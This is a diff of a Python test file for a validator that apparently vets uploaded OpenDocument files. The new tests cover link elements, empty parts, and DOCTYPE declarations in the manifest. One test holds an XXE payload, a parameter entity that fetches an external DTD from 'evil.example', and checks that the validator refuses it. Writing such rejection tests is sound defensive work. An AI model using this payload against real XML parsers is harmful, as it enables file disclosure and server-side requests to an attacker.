@@ -136,6 +136,9 @@ def test_values_that_another_program_keeps_are_refused():
     [
         '<text:a xlink:href="https://example.com/">Jane</text:a>',
         '<draw:a xlink:href="https://example.com/"/>',
+        '<draw:area-rectangle xlink:href="https://example.com/"/>',
+        '<draw:area-circle xlink:href="https://example.com/"/>',
+        '<draw:area-polygon xlink:href="https://example.com/"/>',
         '<draw:image xlink:href="Pictures/1.png"/>',
         '<draw:image xlink:href="../jane.png"/>',
         '<draw:object xlink:href="./Object 1"/>',
@@ -159,6 +162,39 @@ def test_an_object_of_another_program_is_marked():
 def test_a_document_whose_text_is_something_else_is_refused():
     refused(repacked(ODT, **{"content.xml": b"<x/>"}), "damaged")
     refused(repacked(ODT, **{"content.xml": entries_of(ODT)["styles.xml"]}), "damaged")
+
+
+def test_an_empty_part_as_old_programs_write_it_is_taken():
+    empty = repacked(ODT, **{"Configurations2/accelerator/current.xml": b""})
+    assert judged("resume.odt", empty).flags == frozenset()
+
+
+@pytest.mark.parametrize("part", ["content.xml", "META-INF/manifest.xml"])
+def test_an_empty_part_that_is_needed_is_damage(part):
+    refused(repacked(ODT, **{part: b""}), "damaged")
+
+
+PUBLIC = 'manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"'
+
+
+def typed(declared: str, part: str = "META-INF/manifest.xml") -> bytes:
+    """The genuine document with a part that declares its type."""
+    return changed("?>", f"?><!DOCTYPE {declared}>", part)
+
+
+def test_a_manifest_that_names_its_type_as_old_programs_do_is_taken():
+    assert judged("resume.odt", typed(PUBLIC)).flags == frozenset()
+
+
+def test_a_manifest_that_declares_something_itself_is_refused():
+    for inside in ("[]", '[<!ENTITY x "y">]', '[<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]'):
+        refused(typed(f"{PUBLIC} {inside}"), "word processors do not write")
+
+
+@pytest.mark.parametrize("part", ["content.xml", "styles.xml", "META-INF/signatures.xml"])
+def test_another_part_that_names_its_type_is_refused(part):
+    named = f"<?xml version='1.0'?><!DOCTYPE {PUBLIC}><x/>".encode()
+    refused(repacked(ODT, **{part: named}), "word processors do not write")
 
 
 def test_a_document_without_a_manifest_is_refused():
